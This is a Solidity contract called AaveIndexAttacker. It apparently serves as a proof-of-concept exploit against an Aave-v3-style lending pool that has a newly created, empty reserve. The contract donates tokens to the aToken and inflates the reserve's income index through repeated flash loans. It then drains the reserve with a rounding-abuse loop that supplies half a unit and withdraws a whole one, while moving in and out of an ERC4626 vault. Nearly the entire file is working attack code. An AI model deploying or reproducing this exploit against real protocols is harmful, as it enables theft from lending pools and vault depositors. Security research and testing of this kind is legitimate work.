// SPDX-License-Identifier: MIT
pragma solidity ^0.8.28;

import {IERC4626} from "@openzeppelin/contracts/interfaces/IERC4626.sol";
import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";

interface IIndexedPool {
    function supply(address asset, uint256 amount, address onBehalfOf, uint16 referralCode) external;

    function withdraw(address asset, uint256 amount, address to) external returns (uint256);

    function flashLoanSimple(address receiver, address asset, uint256 amount, bytes calldata data, uint16 code) external;

    function getReserveNormalizedIncome(address asset) external view returns (uint256);
}

/// @notice A stranger beside a vault that comes first into a reserve in which nobody has anything. What flash loans pay is shared
/// by a scaled wei or two, so each soon is a claim on a fortune; Aave 3.0 mints a whole one for half its price, and burns it for all.
contract AaveIndexAttacker {
    IIndexedPool private immutable _pool;
    IERC20 private immutable _token;
    address private immutable _aToken;
    IERC4626 private immutable _vault;

    constructor(IIndexedPool pool, IERC20 token, address aToken, IERC4626 vault) {
        (_pool, _token, _aToken, _vault) = (pool, token, aToken, vault);
        token.approve(address(pool), type(uint256).max);
        token.approve(address(vault), type(uint256).max);
    }

    function executeOperation(address, uint256, uint256, address, bytes calldata) external pure returns (bool) {
        return true;
    }

    function enter(uint256 assets) external {
        _vault.deposit(assets, address(this));
    }

    function leave() external {
        _vault.redeem(_vault.balanceOf(address(this)), address(this), address(this));
    }

    /// @notice A gift, and flash loans of all that is there.
    function lift(uint256 gift, uint256 times) external {
        _token.transfer(_aToken, gift);
        for (uint256 i = 0; i < times; ++i) {
            _pool.flashLoanSimple(address(this), address(_token), _token.balanceOf(_aToken), "", 0);
        }
    }

    /// @notice Takes all of it out again.
    function drain() external {
        uint256 unit = _pool.getReserveNormalizedIncome(address(_token)) / 1e27 + 1;
        uint256 half = unit / 2 + 1;
        while (_token.balanceOf(_aToken) + half > unit) {
            _pool.supply(address(_token), half, address(this), 0);
            _pool.withdraw(address(_token), type(uint256).max, address(this));
        }
        _pool.supply(address(_token), half, address(this), 0);
        _pool.withdraw(address(_token), _token.balanceOf(_aToken), address(this));
    }
}
